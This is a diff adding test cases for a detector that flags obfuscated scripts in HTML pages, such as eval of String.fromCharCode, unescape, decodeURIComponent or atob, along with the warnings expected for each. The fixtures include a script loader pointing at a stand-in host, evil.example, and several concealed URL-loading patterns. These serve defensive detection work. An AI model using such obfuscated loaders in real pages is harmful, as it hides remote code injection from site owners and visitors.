@@ -51,6 +51,10 @@ const numbersOf = (code: string) => [...code].map((letter) => letter.charCodeAt(
 const escapesOf = (code: string) =>
   [...code].map((letter) => `%${letter.charCodeAt(0).toString(16)}`).join('');
 const script = (code: string) => ({ html: `<script>${code}</script>` });
+const byNumbers = (code: string) => script(`eval(String.fromCharCode(${numbersOf(code)}))`);
+/** What loads more, in as many letters as are needed to tell: ten. */
+const SHORT = '//ab.co/xy';
+const LONG = `//ab.co/${'x'.repeat(72)}`;
 const LOADER = "var s=document.createElement('script');s.src='//evil.example/x.js'";
 
 export const examples: Example[] = [
@@ -77,6 +81,64 @@ export const examples: Example[] = [
   {
     ...script(`document.write(unescape('${escapesOf('<script src="//evil.example">')}'))`),
     finds: ['concealed'],
+  },
+  ...[
+    'eval(unescape("CODE"))',
+    "eval( decodeURIComponent ( 'CODE'))",
+    'Function(window.unescape("CODE"))',
+    'document.write(window.decodeURIComponent("CODE"))',
+    'document.writeln(unescape("CODE"))',
+    's.src=unescape("CODE")',
+  ].map((code) => ({ ...script(code.replace('CODE', escapesOf(SHORT))), finds: ['concealed'] })),
+  { ...script(`eval(unescape('${escapesOf(SHORT).toUpperCase()}'))`), finds: ['concealed'] },
+  { ...script(`s.src=String.fromCharCode(${numbersOf(SHORT)})`), finds: ['concealed'] },
+  { ...script(`s.src=atob('${btoa('//a.co/xy')}')`), finds: ['concealed'] },
+  {
+    name: 'too short to conceal more than a sign',
+    ...script(
+      `eval(unescape('${escapesOf('//a.co/xy')}'));s.src=String.fromCharCode(${numbersOf('//a.co/xy')});s.src=atob('${btoa('//a.co')}')`,
+    ),
+  },
+  ...[
+    'a("<script>b")',
+    'd.createElement(s)',
+    'image.src = "a"',
+    '\n//a.example/',
+    'http://a.example/',
+    'https://a.example/',
+    'location = "/a"',
+    'x = eval ("a")',
+    'new XMLHttpRequest()',
+    'x = fetch("/a")',
+  ].map((code) => ({ ...byNumbers(code), finds: ['concealed'] })),
+  {
+    name: 'as much as is shown whole',
+    ...byNumbers(LONG),
+    finds: [
+      {
+        message: 'concealed',
+        says: `A script writes in numbers or codes what it runs or loads: “${LONG}”.`,
+        at: 'head > script:nth-child(1)',
+        severity: 'warning',
+      },
+    ],
+  },
+  {
+    name: 'more than is shown',
+    ...byNumbers(`${LONG}x`),
+    finds: [
+      {
+        message: 'concealed',
+        says: `A script writes in numbers or codes what it runs or loads: “${LONG.slice(0, 79)}…”.`,
+        at: 'head > script:nth-child(1)',
+        severity: 'warning',
+      },
+    ],
+  },
+  {
+    name: 'one after what is harmless, told once for a script',
+    html: `${byNumbers('console.log(1)').html}${script(`eval(String.fromCharCode(${numbersOf('console.log(1)')}));${`eval(String.fromCharCode(${numbersOf(SHORT)}));`.repeat(2)}`).html}${byNumbers(SHORT).html}`,
+    finds: ['concealed', 'concealed'],
   },
   {
     name: 'an email address that is hidden from collectors',
